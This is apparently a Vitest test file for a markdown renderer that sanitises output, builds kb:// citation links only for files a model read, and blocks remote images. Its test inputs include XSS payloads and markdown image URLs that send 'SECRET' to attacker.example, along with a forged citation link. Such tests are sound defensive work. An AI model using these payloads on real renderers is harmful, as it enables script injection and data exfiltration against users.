import { describe, expect, it } from 'vitest'
import { answerRenderer, previewHref, renderMarkdown } from './render-markdown.ts'

describe('renderMarkdown', () => {
  it('renders markdown', () => {
    expect(renderMarkdown('# Title\n\n**bold** `code`')).toContain('<h1>Title</h1>')
  })

  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror="alert(1)">',
    '[x](javascript:alert(1))',
    '<a href="javascript:alert(1)">x</a>',
    '<iframe src="https://evil"></iframe>',
    '<div onclick="alert(1)">x</div>',
    '<svg onload="alert(1)"></svg>',
    'text <img src=x onerror=alert(1)> inline',
    '<details open ontoggle="alert(1)">x</details>',
  ])('neutralises %s: no element, no handler, no javascript: URL', (input) => {
    const html = renderMarkdown(input)
    expect(html).not.toMatch(/<(script|img|iframe|svg|div|details)\b/i)
    expect(html).not.toMatch(/<[^>]*\son\w+=/i)
    expect(html).not.toMatch(/<a[^>]*href="javascript:/i)
  })

  it('shows raw HTML as the text it is', () => {
    expect(renderMarkdown('<script>alert(1)</script>')).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
  })

  it('turns kb:// URIs into preview links, leaving trailing punctuation outside', () => {
    const html = renderMarkdown('See kb://users/demo/guide.md. And (kb://users/demo/a b.md @12)')
    expect(html).toContain('<a href="/workspace?uri=kb%3A%2F%2Fusers%2Fdemo%2Fguide.md" class="kb-link" target="_blank">kb://users/demo/guide.md</a>.')
    expect(html).toContain('kb://users/demo/a</a> b.md')
  })

  it('keeps ordinary links safe', () => {
    expect(renderMarkdown('[docs](https://example.com)')).toContain('rel="noopener noreferrer"')
  })

  it('links [text](kb://…) to the preview, and a percent-encoded URI (a compiled page\'s) as one link', () => {
    expect(renderMarkdown('[the guide](kb://users/demo/guide.md "Guide")')).toContain(
      '<a href="/workspace?uri=kb%3A%2F%2Fusers%2Fdemo%2Fguide.md" title="Guide" class="kb-link" target="_blank">the guide</a>',
    )
    const html = renderMarkdown('Source: kb://users/demo/meeting%20notes%20%28draft%29.md')
    expect(html).toContain(`href="${previewHref('kb://users/demo/meeting%20notes%20%28draft%29.md')}"`)
    expect(html).toContain('>kb://users/demo/meeting%20notes%20%28draft%29.md</a>')
  })

  describe('answerRenderer (citations)', () => {
    const readInTurn = new Set(['kb://users/demo/a.md', "kb://users/demo/meeting notes for Bob's team.md"])
    const render = answerRenderer((uri) => (readInTurn.has(uri) ? uri : undefined))

    it('links a citation of a file the turn read to the passage, in place (no new tab)', () => {
      const html = render('As stated (kb://users/demo/a.md @120).')
      expect(html).toContain(
        '<a href="/workspace?uri=kb%3A%2F%2Fusers%2Fdemo%2Fa.md&amp;offset=120" data-uri="kb://users/demo/a.md" data-offset="120" class="kb-link kb-cite">kb://users/demo/a.md @120</a>)',
      )
      expect(html).not.toContain('target=')
      expect(render('See kb://users/demo/a.md.')).toContain('<a href="/workspace?uri=kb%3A%2F%2Fusers%2Fdemo%2Fa.md" data-uri="kb://users/demo/a.md" class="kb-link kb-cite">kb://users/demo/a.md</a>.')
    })

    it('takes a name with spaces and apostrophes whole when it is a file the turn read, with its offset', () => {
      const html = render("Per kb://users/demo/meeting notes for Bob's team.md @40, the plan holds.")
      expect(html).toContain(
        `<a href="/workspace?uri=${encodeURIComponent("kb://users/demo/meeting notes for Bob's team.md")}&amp;offset=40" data-uri="kb://users/demo/meeting notes for Bob's team.md" data-offset="40" class="kb-link kb-cite">kb://users/demo/meeting notes for Bob's team.md @40</a>, the plan holds.`,
      )
      // A name the turn did not read is not stretched over the words after a URI.
      expect(render('See kb://users/demo/a.md and more words.')).toContain('kb://users/demo/a.md</a> and more words.')
    })

    it("links the local model's (offset N) and （偏移 N） citations at their offset", () => {
      expect(render('> — kb://users/demo/a.md (offset 12)')).toContain('data-offset="12" class="kb-link kb-cite">kb://users/demo/a.md (offset 12)</a>')
      expect(render('> — kb://users/demo/a.md （偏移 7）')).toContain('data-offset="7" class="kb-link kb-cite">kb://users/demo/a.md （偏移 7）</a>')
    })

    it('a markdown link to a file is a citation only when the turn read it', () => {
      expect(render('[the notes](kb://users/demo/a.md)')).toContain('<a href="/workspace?uri=kb%3A%2F%2Fusers%2Fdemo%2Fa.md" data-uri="kb://users/demo/a.md" class="kb-link kb-cite">the notes</a>')
      const unread = render('[made up](kb://users/demo/b.md)')
      expect(unread).toContain('<span class="kb-ref">made up</span>')
      expect(unread).not.toContain('<a')
    })

    it('leaves a citation of a file the turn never read as plain text', () => {
      const html = render('Made up: (kb://users/demo/b.md @7)')
      expect(html).toContain('<span class="kb-ref">kb://users/demo/b.md @7</span>')
      expect(html).not.toContain('<a')
    })

    it('keeps a model from forging a citation link with raw HTML', () => {
      const html = render('<a class="kb-link kb-cite" href="/evil" data-uri="kb://users/demo/a.md">x</a>')
      expect(html).not.toMatch(/<a\b/)
    })
  })
})

describe('images never leave the server', () => {
  it.each([
    '![x](https://attacker.example/c?d=SECRET)',
    '![x](http://attacker.example/c?d=SECRET)',
    '![x](//attacker.example/c?d=SECRET)',
    '![x](/\\attacker.example/c?d=SECRET)',
    '![x](https:attacker.example/c?d=SECRET)',
    '![x][ref]\n\n[ref]: https://attacker.example/c?d=SECRET',
    '<img src="https://attacker.example/c?d=SECRET">',
  ])('%s renders no <img> with a remote source', (input) => {
    const html = renderMarkdown(input)
    expect(html).not.toMatch(/<img\b/i)
    expect(html).not.toMatch(/<[^>]*\ssrc="[^"]*attacker/i)
  })

  it('a remote image becomes a link that says it is an external image, and loads nothing', () => {
    const html = renderMarkdown('![chart](https://attacker.example/c?d=SECRET "Q3")')
    expect(html).toBe(
      '<p><a href="https://attacker.example/c?d=SECRET" title="Q3" class="external-image" rel="noopener noreferrer" target="_blank">External image, not loaded: chart (attacker.example)</a></p>\n',
    )
  })

  it('a remote image with a javascript: URL keeps no href', () => {
    const html = renderMarkdown('![x](javascript:alert(1))')
    expect(html).not.toMatch(/href=/)
    expect(html).toContain('External image, not loaded: x')
  })

  it('loads workspace files through the raw-content URL, same-origin paths and data: images', () => {
    expect(renderMarkdown('![a](kb://users/demo/pic.png)')).toContain('<img src="/api/v1/workspace/raw?uri=kb%3A%2F%2Fusers%2Fdemo%2Fpic.png" alt="a" />')
    expect(renderMarkdown('![a](/static/logo.png)')).toContain('<img src="/static/logo.png" alt="a" />')
    expect(renderMarkdown('![a](data:image/png;base64,iVBORw0KGgo=)')).toContain('<img src="data:image/png;base64,iVBORw0KGgo=" alt="a" />')
    expect(renderMarkdown('![a](data:text/html;base64,PHNjcmlwdD4=)')).not.toContain('<img')
  })

  it('resolves a relative image against the previewed file, never above the scheme', () => {
    expect(renderMarkdown('![d](img/diagram.png)', { baseUri: 'kb://users/demo/docs/a.md' })).toContain(
      'src="/api/v1/workspace/raw?uri=kb%3A%2F%2Fusers%2Fdemo%2Fdocs%2Fimg%2Fdiagram.png"',
    )
    expect(renderMarkdown('![d](img/diagram.png)')).toContain('External image, not loaded: d')
  })
})
